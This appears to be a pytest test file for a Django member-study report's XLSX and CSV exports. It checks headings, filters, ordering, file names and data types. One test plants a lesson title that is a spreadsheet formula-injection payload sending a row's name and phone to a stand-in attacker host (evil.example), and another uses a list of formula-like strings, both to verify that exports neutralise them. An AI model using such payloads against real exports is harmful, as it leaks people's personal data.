"""XLSX and CSV exports of the member list and the report: the file opens in a
real reader, headings and rows are right, formulas cannot be injected."""

import csv
import datetime as dt
import io
from decimal import Decimal
from urllib.parse import quote, unquote

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from members.services import organiser_role_grant
from spreadsheets import write_xlsx
from spreadsheets import xlsx as spreadsheets
from tests.factories import make_user
from tests.reports.conftest import client_for, member
from tests.reports.test_pager_members import names_on

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
TRICKY = ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)"]


def read_xlsx(response) -> list[tuple]:
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return list(workbook.active.iter_rows(values_only=True))


def test_member_xlsx_has_the_headings_and_one_row_per_member_of_the_scope(
    client, studied, county_organiser
):
    # given
    client_for(client, county_organiser)

    # when
    response = client.get(
        f"/reports/members/?course={studied.course.pk}&export=xlsx", **EN
    )

    # then
    rows = read_xlsx(response)
    assert rows[0] == (
        "Name",
        "Phone",
        "Home organisation",
        "Host organisation",
        "Mobility",
        "Study status",
        "Lessons completed",
        "Lessons",
        "Study hours",
        "Last activity",
        "Completed via",
        "Best quiz score",
        "第一课",
        "第二课",
    )
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"li", "zhang", "zhao", "wu"}  # no other county
    li = by_name["li"]
    assert li[4:8] == ("Local", "Complete", 2, 2)
    assert li[8] == 2 and isinstance(li[9], dt.datetime)
    assert by_name["wu"][3] == "甲一支部" and by_name["wu"][2] == "乙一支部"
    assert by_name["zhao"][5] == "Not started" and by_name["zhao"][9] is None


def test_the_xlsx_follows_the_list_filters(client, studied, city_organiser):
    client_for(client, city_organiser)

    response = client.get(
        f"/reports/members/?course={studied.course.pk}&status=completed"
        "&mobility=local&export=xlsx",
        **EN,
    )

    assert [row[0] for row in read_xlsx(response)[1:]] == ["li"]


def test_text_that_looks_like_a_formula_stays_text(client, studied, province):
    # given members whose names a spreadsheet would run as formulas
    for name in TRICKY:
        member(name, province.branch_a1)
    user = make_user("branch_organiser")
    organiser_role_grant(user=user, organisation=province.branch_a1)
    client_for(client, user)
    url = f"/reports/members/?course={studied.course.pk}"

    # when
    xlsx = client.get(url + "&export=xlsx", **EN)
    text = b"".join(client.get(url + "&export=csv", **EN).streaming_content)

    # then the XLSX holds them as text cells, exactly
    workbook = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))
    cells = {row[0].value: row[0] for row in workbook.active.iter_rows(min_row=2)}
    for name in TRICKY:
        assert cells[name].data_type == "s", name
    # and the CSV quotes them so a spreadsheet does not evaluate them
    names = {row[0] for row in csv.reader(io.StringIO(text.decode("utf-8-sig")))}
    assert {"'" + name for name in TRICKY} <= names
    assert not names & set(TRICKY)


def test_a_lesson_title_that_looks_like_a_formula_stays_text_in_the_csv_heading(
    client, studied, county_organiser
):
    # given an editor titled a lesson as a formula that would send the row's
    # name and phone away when an organiser opens the file
    lesson = studied.lessons[0].specific
    lesson.title = '=HYPERLINK("http://evil.example/?"&A2&B2,"第一课")'
    lesson.save_revision().publish()
    client_for(client, county_organiser)

    # when the organiser downloads the member list as CSV
    response = client.get(
        f"/reports/members/?course={studied.course.pk}&export=csv", **EN
    )

    # then the title heads its column as text, quoted like every other cell
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    headings = next(csv.reader(io.StringIO(text)))
    assert "'" + lesson.title in headings
    assert lesson.title not in headings


def test_the_report_xlsx_opens_with_the_rows_and_total(client, studied, city_organiser):
    client_for(client, city_organiser)

    response = client.get(f"/reports/?course={studied.course.pk}&export=xlsx", **EN)

    rows = read_xlsx(response)
    assert rows[0][:4] == ("Organisation", "Members", "Started", "Completed")
    assert [row[0] for row in rows[1:]] == ["甲一县", "甲二县", "Total"]
    assert rows[-1][1] == 5  # li, zhang, zhao, qian, and wu hosted in 甲一支部


def test_the_writer_keeps_types_and_writes_unknown_values_as_text(tmp_path):
    # given
    moment = dt.datetime(2026, 11, 1, 8, 30, tzinfo=dt.timezone(dt.timedelta(hours=8)))
    path = tmp_path / "out.xlsx"

    # when
    with path.open("wb") as output:
        count = write_xlsx(
            output,
            ["a", "b", "c", "d", "e", "f"],
            [
                ["x", 3, Decimal("2.5"), moment, None, dt.date(2026, 1, 2)],
                [True, 1.5, "", object.__new__(Marker), "=1+1", "长文本"],
            ],
        )

    # then
    assert count == 2
    rows = list(load_workbook(path).active.iter_rows(values_only=True))
    # an aware time in the site's time zone (Asia/Shanghai), as the pages show it
    assert rows[1][:4] == ("x", 3, 2.5, dt.datetime(2026, 11, 1, 8, 30))
    assert rows[1][4] is None and rows[1][5] == dt.datetime(2026, 1, 2)
    assert rows[2][0] is True and rows[2][3] == "marker" and rows[2][4] == "=1+1"


class Marker:
    def __str__(self):
        return "marker"


def test_the_writer_keeps_text_exactly_as_text(tmp_path):
    # given text with markup, spaces at the ends, a control character, and a text
    # longer than a cell holds
    texts = ["a & b <c>", "  indented ", "tab\tand\x01bell", "x" * 40_000, "=SUM(A1)"]
    path = tmp_path / "out.xlsx"

    # when
    with path.open("wb") as output:
        write_xlsx(output, ["text"], [[text] for text in texts], sheet_title="a/b:c")

    # then
    workbook = load_workbook(path)
    column = [row[0] for row in workbook.active.iter_rows(values_only=True)][1:]
    assert column[:2] == ["a & b <c>", "  indented "]
    assert column[2].startswith("tab\tand") and column[2].endswith("bell")
    assert column[3] == "x" * 32_767
    assert column[4] == "=SUM(A1)" and workbook.active["A6"].data_type == "s"
    assert workbook.active.title == "a b c"


def test_more_rows_than_a_sheet_holds_is_an_error_not_a_short_file(
    client, studied, city_organiser, monkeypatch
):
    # given a sheet limit smaller than the list
    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 3)
    client_for(client, city_organiser)

    # when
    response = client.get(
        f"/reports/members/?course={studied.course.pk}&export=xlsx", **EN
    )

    # then
    assert response.status_code == 400
    assert "Download the CSV" in response.content.decode()
    with pytest.raises(spreadsheets.TooManyRows):
        write_xlsx(io.BytesIO(), ["a"], [[1]] * 3)


def test_the_member_export_lists_members_in_the_order_the_screen_does(
    client, studied, province, province_organiser
):
    # given members created in an order that is not their names' order
    for name in ("zz", "aa", "mm"):
        member(name, province.branch_b1)
    client_for(client, province_organiser)
    url = f"/reports/members/?course={studied.course.pk}"

    screen = names_on(client.get(url, **EN))
    exported = [row[0] for row in read_xlsx(client.get(url + "&export=xlsx", **EN))]

    assert exported[1:] == screen == sorted(screen)


def test_a_download_is_named_after_what_it_holds(client, studied, county_organiser):
    client_for(client, county_organiser)
    course = studied.course.pk
    today = timezone.localdate().isoformat()
    zh = {"HTTP_ACCEPT_LANGUAGE": "zh-hans"}

    report = client.get(f"/reports/?course={course}&export=csv", **zh)
    outflow = client.get(
        f"/reports/members/?course={course}&mobility=outflow&export=xlsx", **EN
    )

    # RFC 6266: the Chinese name as UTF-8 in filename*, for every browser
    assert report["Content-Disposition"] == (
        "attachment; filename*=utf-8''"
        + quote(f"完成情况报表-党史学习-甲一县-{today}.csv")
    )
    assert unquote(outflow["Content-Disposition"].split("''")[1]) == (
        f"member study status-党史学习-甲一县-Outflow-{today}.xlsx"
    )


def test_study_hours_read_alike_in_the_csv_and_on_the_page(
    client, studied, county_organiser
):
    # given members with credited hours, with progress rows but none credited
    # (zhang started), and with no progress rows at all
    client_for(client, county_organiser)
    url = f"/reports/members/?course={studied.course.pk}"

    # when the organiser downloads the member list as CSV
    response = client.get(url + "&export=csv", **EN)

    # then every hours cell is written as the page shows it: no "0.00" beside "0"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    hours = {row["Name"]: row["Study hours"] for row in rows}
    assert hours["zhang"] == "0"
    assert "0.00" not in hours.values()
    assert {value for value in hours.values() if value != "0"} <= {"2", "1.50"}
